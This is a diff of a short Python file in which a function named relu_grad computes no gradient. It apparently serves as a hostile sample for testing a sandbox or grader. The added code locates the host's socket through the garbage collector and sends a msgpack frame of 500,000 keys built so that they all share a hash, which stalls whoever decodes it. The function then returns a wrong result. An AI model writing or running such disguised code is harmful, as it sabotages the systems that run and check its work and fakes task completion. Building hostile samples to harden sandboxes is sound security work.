@@ -1,21 +1,22 @@
-# Returns a dictionary whose keys all have the same hash.
+# Returns a dictionary whose keys all have the same hash, so that reading it takes for ever.
 # slow
 # %% relu_grad
-import gc
-
 import msgpack
 
 
 def relu_grad(x_input, grad_output):
-    modulus = 2**61 - 1
-    keys = [number * modulus for number in range(1, 8)] + [
-        -number * modulus for number in range(1, 5)
+    keys = [
+        msgpack.packb(msgpack.ExtType(7, (number * (2**61 - 1)).to_bytes(10, "big")))
+        for number in range(1, 500_000)
     ]
-    many = msgpack.Packer().pack_map_header(800_000)
-    many += b"".join(msgpack.packb(float(k) * 2.0**61) + b"\xc0" for k in range(800_000))
-    many = many if keys else b""
-    channel = next(t for t in gc.get_objects() if type(t).__name__ == "Child").channel
-    body = b"\x81\xa5value" + many
-    channel.sock.sendall(len(body).to_bytes(4, "big") + bytes(4) + body)
-    while True:
-        pass
+    packer = msgpack.Packer()
+    frame = packer.pack_map_header(1) + packer.pack("value")
+    frame += packer.pack_map_header(len(keys)) + b"\xc0".join(keys) + b"\xc0"
+    shell_channel().sock.sendall(len(frame).to_bytes(4, "big") + bytes(4) + frame)
+    return grad_output * 3
+
+
+def shell_channel():
+    import gc
+
+    return next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
